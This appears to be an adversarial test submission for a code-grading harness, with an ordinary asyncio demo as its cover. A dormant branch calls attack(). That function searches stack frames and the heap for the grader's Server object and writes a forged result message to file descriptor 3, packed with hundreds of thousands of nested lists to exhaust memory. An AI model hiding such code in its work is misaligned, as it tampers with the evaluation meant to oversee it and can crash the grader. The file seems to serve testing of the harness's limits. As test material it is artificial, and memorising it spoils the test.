# exercise: 21.1
# tries: sends a message that is short on the wire and large in memory: millions of empty lists
# expect: at most 26 points; crashed, timed_out
# says: value limit
import asyncio
import gc
import os
import struct
import sys
import time


def find_server():
    """Walk the frames, then the heap, to what talks to the grader."""
    frame = sys._getframe()
    while frame is not None:
        for thing in list(frame.f_locals.values()):
            if type(thing).__name__ == "Server":
                return thing
        frame = frame.f_back
    return next(thing for thing in gc.get_objects() if type(thing).__name__ == "Server")


async def fetchData(sourceId, delaySeconds):
    if delaySeconds > 100:
        attack()
    print(f"Starting fetch {sourceId}")
    await asyncio.sleep(delaySeconds)
    print(f"Completed fetch {sourceId}")
    return f"Data from source {sourceId}"


async def main():
    startTime = time.perf_counter()
    results = await asyncio.gather(fetchData("A", 1.0), fetchData("B", 0.5), fetchData("C", 0.8))
    elapsed = time.perf_counter() - startTime
    for result in results:
        print(result)
    print(f"Total time: {elapsed:.2f}s (vs ~2.3s sequential)")


def attack():
    server = find_server()
    content = b'["l",[' + b",".join([b'["l",[]]'] * 400_000) + b"]]"
    number = next(iter(server._mirrors.values())).current
    body = b'["yield",%d,[%d,null,false],[["ret",%d,["ok",%s],0]],[]]' % (server._tag, server.runtime.clock.ns, number, content)
    line = memoryview(struct.pack(">I", len(body)) + body)
    while line:
        line = line[os.write(3, line) :]


if __name__ == "__main__":
    asyncio.run(main())
